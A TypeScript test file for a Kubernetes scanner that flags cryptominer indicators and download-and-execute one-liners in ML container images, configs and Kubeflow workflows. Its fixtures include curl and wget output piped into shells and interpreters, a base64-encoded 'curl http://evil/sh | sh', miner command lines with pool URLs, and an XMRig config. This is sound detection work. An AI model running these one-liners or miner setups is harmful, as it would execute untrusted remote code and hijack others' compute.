import { describe, expect, it } from 'vitest';
import { parseImageRef } from '../src/kube/image-ref.js';
import { kfpV2ComponentSites } from '../src/kube/kfp-v2.js';
import { indicatorsInImage, indicatorsInText, isPoolHost } from '../src/kube/miner-iocs.js';
import { inventoryFromYaml } from './helpers/inventory.js';

const kinds = (text: string, mlImage = false) => indicatorsInText(text, { mlImage }).map((i) => i.kind);

describe('indicatorsInText', () => {
  it.each([
    ['-o stratum+tcp://pool.example.invalid:3333', ['stratum-url', 'pool-port']],
    ['--url=stratum+ssl://x.example:443', ['stratum-url']],
    ['stratum2+tcp://1.2.3.4:14444', ['stratum-url', 'pool-port']],
    ['/tmp/xmrig', ['miner-binary']],
    ['./XMRig-6.21.0-linux-static-x64.tar.gz', ['miner-binary']],
    ['SRBMiner-MULTI --algorithm randomx', ['miner-binary']],
    ['xmr-stak-rx', ['miner-binary']],
    ['--donate-level 1', ['donate-level']],
    ['pool.supportxmr.com:3333', ['pool-host', 'pool-port']],
    ['eth-eu2.nanopool.org:9999', ['pool-host', 'pool-port']],
    ['gulf.moneroocean.stream:10128', ['pool-host']],
    ['ethminer -P stratum1+tcp://w@eu1.ethermine.org:4444', ['stratum-url', 'miner-binary', 'pool-host', 'pool-port']],
    ['./fast -B -o 198.51.100.4:443 -u 4Wallet --cpu-max-threads-hint=80', ['miner-flag']],
    ['--coin=monero --rig-id worker1', ['miner-flag']],
  ])('%s', (text, expected) => {
    expect(kinds(text)).toEqual(expected);
  });

  it.each([
    'stratum-api --stratum-port=3333',
    'geology stratum 4',
    'node t-rex-runner.js --examinerd-mode',
    '0.0.0.0:3333',
    'http://tiles.example.com:8080',
    'MINER_ENABLED=false',
    'https://antpool.com.example.org/docs',
    'xmrig-exporter --port 9189',
    'python train.py --coin-flip-prob 0.5 --threads-hint 4',
    'curl -fsSL https://get.helm.sh/install.sh | sh',
  ])('no indicator in %j outside ML images', (text) => {
    expect(kinds(text)).toEqual([]);
  });

  it('finds download-and-execute one-liners only inside ML images', () => {
    const pipe = 'curl -s http://203.0.113.9/a.sh | bash';
    expect(kinds(pipe, true)).toEqual(['download-execute']);
    expect(kinds(pipe, false)).toEqual([]);
    expect(kinds('wget -q http://x/y -O /tmp/y && chmod 755 /tmp/y && /tmp/y', true)).toEqual(['download-execute']);
    expect(kinds('wget -q http://x/w.h5 && chmod 644 w.h5', true)).toEqual([]);
    expect(kinds("urllib.request.urlretrieve(u, '/tmp/t'); os.chmod('/tmp/t', 0o755); os.system('/tmp/t')", true)).toEqual(['download-execute']);
    expect(kinds('chmod +x ./train.sh && ./train.sh', true)).toEqual([]);
  });

  it.each([
    ['curl -fsSL http://203.0.113.9/p.py | python3 -', 'curl output piped to python3'],
    ['wget -qO- http://203.0.113.9/x | python', 'wget output piped to python'],
    ['curl -s http://203.0.113.9/x.pl | perl', 'curl output piped to perl'],
    ['curl -s http://203.0.113.9/x.js | node', 'curl output piped to node'],
    ['curl -s http://203.0.113.9/x.rb | ruby', 'curl output piped to ruby'],
    ['wget -qO- http://203.0.113.9/i.sh | sh', 'wget output piped to a shell'],
    ['curl -s http://203.0.113.9/i.sh | sudo -E /bin/bash -s -- --quiet', 'curl output piped to a shell'],
    ['bash <(curl -s http://203.0.113.9/i.sh)', 'curl output run by bash through process substitution'],
    ['source <(wget -qO- http://203.0.113.9/env)', 'wget output run by source through process substitution'],
    ['python -c "$(curl -fsSL http://203.0.113.9/p.py)"', 'curl output run by python -c through command substitution'],
    ["bash -c \"$(wget -qO- http://203.0.113.9/i.sh)\"", 'wget output run by bash -c through command substitution'],
    ['eval "$(curl -s http://203.0.113.9/x)"', 'curl output run by eval through command substitution'],
    ['echo Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo | base64 -d | sh', 'base64-decoded text piped to a shell'],
    ['echo aW1wb3J0IG9z | base64 --decode | python3', 'base64-decoded text piped to python3'],
  ])('finds %j inside ML images, whatever runs the download', (text, what) => {
    expect(indicatorsInText(text, { mlImage: true })).toEqual([{ kind: 'download-execute', description: `a download-and-execute one-liner (${what})` }]);
    expect(kinds(text, false)).toEqual([]);
  });

  it.each([
    // KubeRay's sandbox sample installs gVisor's runsc for later use: downloaded and made executable, never run here.
    'sudo wget -O /usr/local/bin/runsc "https://storage.googleapis.com/gvisor/releases/release/latest/x86_64/runsc"\nsudo chmod +x /usr/local/bin/runsc',
    "urllib.request.urlretrieve(u, '/opt/tools/helper'); os.chmod('/opt/tools/helper', 0o755)",
    'curl -sSL https://example.com/data.csv -o data.csv && python train.py',
    'curl -s https://example.com/health | grep ok',
    'pip download pandas | tee log.txt',
    'base64 -d secret.b64 > key.pem',
  ])('no one-liner in %j', (text) => {
    expect(kinds(text, true)).toEqual([]);
  });

  it('reads miner config files: donate-level as a key, pool hosts in a miner-shaped file', () => {
    const xmrig = '{"autosave": true, "donate-level": 1, "cpu": true, "pools": [{"url": "pool.supportxmr.com:443", "user": "4Wallet", "tls": true}]}';
    expect(indicatorsInText(xmrig, { mlImage: false, configFile: true }).map((i) => i.description)).toEqual([
      "XMRig's donate-level setting",
      'the mining pool pool.supportxmr.com',
    ]);
    expect(kinds('[pool]\nurl = stratum+tcp://xmr.2miners.com:2222\n', false)).toEqual(['stratum-url', 'pool-host']);
    // A proxy's deny list or docs that merely name pools are not a miner's config.
    expect(indicatorsInText('blocked:\n  - pool.supportxmr.com\n  - xmr-eu1.nanopool.org\n', { mlImage: false, configFile: true })).toEqual([]);
    // Falco rules name Stratum URLs and pools to catch miners.
    const falcoRules = '- list: miner_domains\n  items: [pool.supportxmr.com]\n- rule: Detect crypto miners using the Stratum protocol\n  condition: proc.cmdline contains "stratum+tcp"\n';
    expect(indicatorsInText(falcoRules, { mlImage: false, configFile: true })).toEqual([]);
  });

  it('names what it found in a Secret without quoting the value', () => {
    const found = indicatorsInText('{"donate-level": 0, "pools": [{"url": "stratum+ssl://gulf.moneroocean.stream:20128"}]}', { mlImage: false, configFile: true, redact: true });
    expect(found.map((i) => i.description)).toEqual(['a Stratum mining URL', "XMRig's donate-level setting", 'a known mining pool host']);
    expect(JSON.stringify(found)).not.toMatch(/moneroocean|20128/);
  });

  it('matches pool hosts by operator domain, not by substring', () => {
    expect(isPoolHost('xmr-us-east1.nanopool.org')).toBe(true);
    expect(isPoolHost('nanopool.org')).toBe(true);
    expect(isPoolHost('notnanopool.org')).toBe(false);
    expect(isPoolHost('nanopool.org.example.com')).toBe(false);
  });
});

describe('indicatorsInImage', () => {
  it.each([
    ['ddsfdfsaadfs/dfsdf:99', ['ioc-image']],
    ['mirror.example.com/hub/ddsfdfsaadfs/dfsdf', ['ioc-image']],
    ['metal3d/xmrig:latest', ['miner-binary']],
    ['ghcr.io/someone/lolminer:1.88', ['miner-binary']],
    ['registry.example.com/geo/stratum-api:1.4.2', []],
    ['tensorflow/tensorflow:latest-gpu', []],
  ])('%s', (image, expected) => {
    expect(indicatorsInImage(parseImageRef(image)!).map((i) => i.kind)).toEqual(expected);
  });
});

describe('kfpV2ComponentSites', () => {
  const inventory = inventoryFromYaml(`
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {name: v2, namespace: ns}
spec:
  podMetadata: {labels: {pipeline/runid: abc}}
  templates:
    - name: driver
      container:
        image: ghcr.io/kubeflow/kfp-driver:2.0.0
        args: [--type, CONTAINER, --container, '{"image":"pytorch/pytorch","command":["python"]}']
    - name: dag
      dag:
        tasks:
          - name: train-driver
            arguments:
              parameters:
                - {name: container, value: '{"image":"tensorflow/tensorflow:latest"}'}
                - {name: task, value: '{"image":"not-a-container-parameter"}'}
    - name: patched
      podSpecPatch: |
        containers:
          - name: main
            image: jupyter/scipy-notebook
    - name: templated
      podSpecPatch: "{{inputs.parameters.pod-spec-patch}}"
`);
  const [workflow] = inventory.all();

  it('reads literal --container arguments, inline task parameters and literal podSpecPatch', () => {
    const sites = kfpV2ComponentSites(workflow!);
    expect(sites.map((s) => [s.role, s.containers[0]!.container['image'], s.path.join('.')])).toEqual([
      ['driver', 'pytorch/pytorch', 'spec.templates.0.container.args.3'],
      ['train', 'tensorflow/tensorflow:latest', 'spec.templates.1.dag.tasks.0.arguments.parameters.0.value'],
      ['patched', 'jupyter/scipy-notebook', 'spec.templates.2.podSpecPatch'],
    ]);
    expect(sites[0]!.labels).toEqual({ 'pipeline/runid': 'abc' });
  });

  it('ignores kinds that are not Argo workflows', () => {
    const pod = inventoryFromYaml('apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: ns}\nspec: {containers: [{name: c, args: [--container, \'{"image":"x"}\']}]}').all()[0]!;
    expect(kfpV2ComponentSites(pod)).toEqual([]);
  });
});
